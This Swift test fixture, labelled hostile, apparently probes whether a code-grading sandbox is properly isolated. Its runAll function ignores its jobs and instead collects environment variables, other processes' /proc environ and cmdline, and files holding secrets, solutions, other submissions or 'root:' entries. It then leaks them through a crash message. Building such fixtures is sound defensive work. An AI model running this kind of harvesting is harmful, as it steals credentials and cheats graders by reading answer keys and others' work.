// Hostile fixture (visibility): look everywhere the process can reach for
// secrets (the environment, other processes, every readable file) and put
// whatever it finds into its own feedback, through a crash message.
import Foundation

func readable(_ path: String, limit: Int = 1 << 16) -> String? {
    guard let handle = FileHandle(forReadingAtPath: path) else { return nil }
    defer { try? handle.close() }
    return (try? handle.read(upToCount: limit)).map { String(decoding: $0, as: UTF8.self) }
}

func interesting(_ text: String) -> Bool {
    ["WORKBOOK-SECRET", "MARKER-OTHER-SUBMISSION", "pointsPerExercise", "BEGIN SOLUTION", "root:"].contains { text.contains($0) }
}

public func runAll<T: Sendable>(_ jobs: [@Sendable () -> T]) -> [T] {
    var found: [String] = ProcessInfo.processInfo.environment.map { "env \($0.key)=\($0.value)" }
    for pid in (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? [] where Int(pid) != nil {
        for file in ["environ", "cmdline"] {
            if let text = readable("/proc/\(pid)/\(file)") { found.append("/proc/\(pid)/\(file): \(text)") }
        }
    }
    var visited = 0
    if let walker = FileManager.default.enumerator(atPath: "/") {
        while let relative = walker.nextObject() as? String, visited < 20_000 {
            visited += 1
            if ["proc", "sys", "dev", "usr", "opt", "workspace/.build"].contains(where: relative.hasPrefix) {
                walker.skipDescendants(); continue
            }
            if let text = readable("/" + relative, limit: 4096), interesting(text) { found.append("/\(relative): \(text)") }
        }
    }
    print(found.joined(separator: "\n"))
    fatalError("found: " + found.joined(separator: " | ").prefix(3000))
}
